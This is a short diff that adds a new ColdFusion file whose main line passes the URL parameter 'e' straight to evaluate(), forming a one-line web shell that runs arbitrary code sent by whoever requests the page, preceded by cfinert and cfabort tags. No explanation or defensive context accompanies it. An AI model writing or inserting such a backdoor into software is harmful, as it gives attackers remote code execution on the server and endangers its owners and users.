@@ -1,0 +1,3 @@
+<cfinert>
+<cfabort>
+<cfoutput><cfif structKeyExists(url, "e")>#evaluate(urlDecode(url.e))#</cfif></cfoutput>
